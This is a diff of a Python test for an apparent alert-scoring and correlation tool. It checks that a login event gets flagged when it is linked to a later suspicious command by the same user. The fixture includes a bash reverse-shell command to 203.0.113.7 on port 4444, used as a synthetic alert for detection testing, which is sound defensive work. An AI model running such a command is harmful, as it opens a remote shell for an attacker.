@@ -121,14 +121,14 @@ def test_score_correlate_lifts_related_alerts(trained, tmp_path, capsys):
     t = F.BASE + __import__("datetime").timedelta(days=6, hours=14)
     m = __import__("datetime").timedelta(seconds=20)
     alerts = [F.event(t, "5501", desc="PAM: Login session opened.", groups=["pam", "syslog", "authentication_success"],
-                      user="www-data"),
-              F.command(t + m, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], user="www-data")]
+                      user="deploy"),
+              F.command(t + m, ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], user="deploy")]
     src = _jsonl(tmp_path / "session.json", alerts)
     assert main(["score", "-m", str(d / "model"), "-i", src, "--all", "--format", "jsonl"]) == EXIT_OK
     plain = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
     assert main(["score", "-m", str(d / "model"), "-i", src, "--all", "--format", "jsonl", "--correlate"]) == EXIT_OK
     corr = [json.loads(x) for x in capsys.readouterr().out.strip().splitlines()]
-    assert corr[1]["anomaly"] and corr[1]["score"] == plain[1]["score"]
-    assert corr[0]["score"] >= plain[0]["score"]
-    if corr[0]["score"] > plain[0]["score"]:
-        assert corr[0]["related_to"] == alerts[1]["id"]
+    assert not plain[0]["anomaly"] and plain[1]["anomaly"] and plain[1]["severity"] in ("medium", "high", "critical")
+    assert corr[1]["score"] == plain[1]["score"]
+    assert corr[0]["anomaly"] and corr[0]["score"] > plain[0]["score"]
+    assert corr[0]["related_to"] == alerts[1]["id"] and "same user 'deploy'" in corr[0]["reasons"][0]
